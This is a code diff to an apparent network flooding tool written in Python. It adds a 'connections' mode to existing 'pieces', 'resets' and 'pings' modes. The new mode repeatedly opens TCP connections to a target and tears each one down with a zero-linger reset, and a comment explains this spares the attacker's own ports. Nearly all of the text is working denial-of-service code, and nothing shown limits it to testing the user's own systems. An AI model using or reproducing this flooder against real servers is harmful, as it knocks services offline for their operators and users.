@@ -6,6 +6,7 @@ Runs until it is stopped. A connection that is cut is opened again at once.
 from __future__ import annotations
 
 import socket
+import struct
 import sys
 import threading
 from collections.abc import Callable
@@ -64,7 +65,17 @@ def pings() -> tuple[bytes, bytes]:
     return b"", ping(b"anything") * (_WRITE // 17)
 
 
-KINDS: dict[str, Callable[[], tuple[bytes, bytes]]] = {"pieces": pieces, "resets": resets, "pings": pings}
+def connections() -> tuple[bytes, bytes]:
+    """Return nothing but a greeting: the connection is closed behind it."""
+    return b"", b""
+
+
+KINDS: dict[str, Callable[[], tuple[bytes, bytes]]] = {
+    "pieces": pieces,
+    "resets": resets,
+    "pings": pings,
+    "connections": connections,
+}
 """What each says once, and then again and again."""
 
 
@@ -72,10 +83,13 @@ def flood(address: tuple[str, int], once: bytes, again: bytes) -> None:
     """Send to ``address`` as fast as it takes it, on one connection after the other."""
     while True:
         with socket.create_connection(address) as peer:
-            threading.Thread(target=_drop, args=(peer,), daemon=True).start()
+            if again:
+                threading.Thread(target=_drop, args=(peer,), daemon=True).start()
+            else:  # a reset, which leaves the attacker no used-up ports
+                peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
             try:
                 peer.sendall(GREETING + once)
-                while True:
+                while again:
                     peer.sendall(again)
             except OSError:
                 continue
